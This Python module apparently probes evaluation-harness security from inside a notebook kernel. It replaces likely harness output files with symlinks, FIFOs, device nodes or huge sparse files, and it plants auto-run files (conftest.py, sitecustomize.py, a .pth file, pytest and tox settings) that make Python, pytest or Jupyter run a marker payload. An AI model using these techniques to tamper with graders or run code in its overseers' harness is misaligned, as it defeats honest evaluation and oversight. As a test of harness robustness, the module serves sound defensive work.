"""Runs inside a kernel, as source text: leaves things where someone outside may open, read or run them.

Only folders that belong to the kernel are touched. They are determined, not assumed: in a kernel that is not sealed off
and sees the host's files, they are those that its environment names; otherwise all that it may write to.
"""

from __future__ import annotations

import os
import socket
import sys
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

#: Names under which a harness could look for a file of a kernel.
NAMES = (
    "stdout", "stderr", "log", "connection.json", "answer.json", "journal.jsonl", "notebook.ipynb", "k-1", "k-2",
)  # fmt: skip
VARIABLES = ("TMPDIR", "JUPYTER_RUNTIME_DIR", "IPYTHONDIR", "XDG_RUNTIME_DIR")
MOST_FILES = 40


def writable_mounts() -> Iterator[str]:
    """Where file systems are mounted that this process may write to."""
    with suppress(OSError), open("/proc/self/mounts") as mounts:  # noqa: PTH123
        for line in mounts:
            place = line.split()[1]
            if os.access(place, os.W_OK) and not place.startswith(("/proc", "/sys")):
                yield place


def own_folders(outside: str) -> list[str]:
    """Folders of the kernel that it may write to.

    Args:
        outside: A folder that is visible to everything that sees the host's files.
    """
    named = [os.getcwd(), *(os.environ.get(name, "") for name in VARIABLES)]  # noqa: PTH109
    named += [os.path.dirname(path) for path in sys.argv if path.endswith(".json")]  # noqa: PTH120
    if not os.path.exists(outside):  # noqa: PTH110
        named += list(writable_mounts())
    roots = [os.path.realpath(path) for path in named if path and os.path.isdir(path)]  # noqa: PTH112
    return [folder for root in dict.fromkeys(roots) for folder in below(root) if os.access(folder, os.W_OK)]


def below(root: str) -> Iterator[str]:
    """A folder and its subfolders, without the ones left there by cheats."""
    for folder, folders, _ in os.walk(root):
        yield folder
        folders[:] = [name for name in folders if name not in NAMES]


def bind(path: str) -> None:
    """Make a socket."""
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(path)


def sparse(path: str) -> None:
    """Make a file of a terabyte that takes no space."""
    with open(path, "wb") as file:  # noqa: PTH123
        for size in (1 << 40, 1 << 33, 1 << 30):
            with suppress(OSError):
                file.truncate(size)
                break


MAKERS: dict[str, Callable[[str, str], Any]] = {
    "link": lambda path, target: os.symlink(target, path),  # noqa: PTH211
    "hard link": lambda path, target: os.link(target, path),
    "fifo": lambda path, _target: os.mkfifo(path),
    "folder": lambda path, _target: os.mkdir(path),  # noqa: PTH102
    "socket": lambda path, _target: bind(path),
    "device": lambda path, _target: os.mknod(path, 0o20666, os.makedev(1, 5)),
    "sparse": lambda path, _target: sparse(path),
}


def replace_all(kind: str, target: str, outside: str) -> int:
    """Replace everything that a harness could open by something else; returns how often that worked."""
    done = 0
    for folder in own_folders(outside):
        # the task's data are left unchanged, or the notebook could not be resumed
        present = [] if folder == os.getcwd() else sorted(os.listdir(folder))[:MOST_FILES]  # noqa: PTH109, PTH208
        for name in dict.fromkeys((*NAMES, *present)):
            path = f"{folder}/{name}"
            with suppress(OSError):
                if not os.path.isdir(path):  # noqa: PTH112
                    with suppress(FileNotFoundError):
                        os.unlink(path)  # noqa: PTH108
                    MAKERS[kind](path, target)
                    done += 1
    return done


def leave_and_die(kind: str, target: str, outside: str) -> None:
    """Call `replace_all`, and end in a way that makes a harness look for last output."""
    print("replaced", replace_all(kind, target, outside), "files", flush=True)  # noqa: T201
    os._exit(3)


def leave_files(mark: str, outside: str, foreign: list[str]) -> None:
    """Leave files that pytest, Python, IPython and Jupyter run automatically.

    Args:
        mark: A file of the host that the payload makes; only the harness could do so.
        outside: As in `own_folders`.
        foreign: Folders of the host; nothing is left there, it is only checked whether that would be possible.
    """
    payload = f"open({mark!r}, 'a').write('ran\\n')\n"
    files = {
        **dict.fromkeys(
            ("conftest.py", "sitecustomize.py", "usercustomize.py", "test_cheat.py", "__init__.py", "json.py",
             "torch.py", "cheat.py", "startup.ipy", "jupyter_server_config.py", "ipython_config.py"),
            payload,
        ),
        "cheat.pth": f"import os; {payload}",
        "pytest.ini": "[pytest]\npython_files = *.py\npython_functions = *\naddopts = -p cheat\n",
        "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p cheat"\n',
        "tox.ini": "[pytest]\naddopts = -p cheat\n",
    }  # fmt: skip
    left = 0
    for folder in own_folders(outside):
        for name, text in files.items():
            with suppress(OSError), open(f"{folder}/{name}", "w") as file:  # noqa: PTH123
                left += bool(file.write(text))
    for folder in foreign:
        if os.access(folder, os.W_OK):
            print("GOT leave to write to", folder)  # noqa: T201
    print("left", left, "files")  # noqa: T201
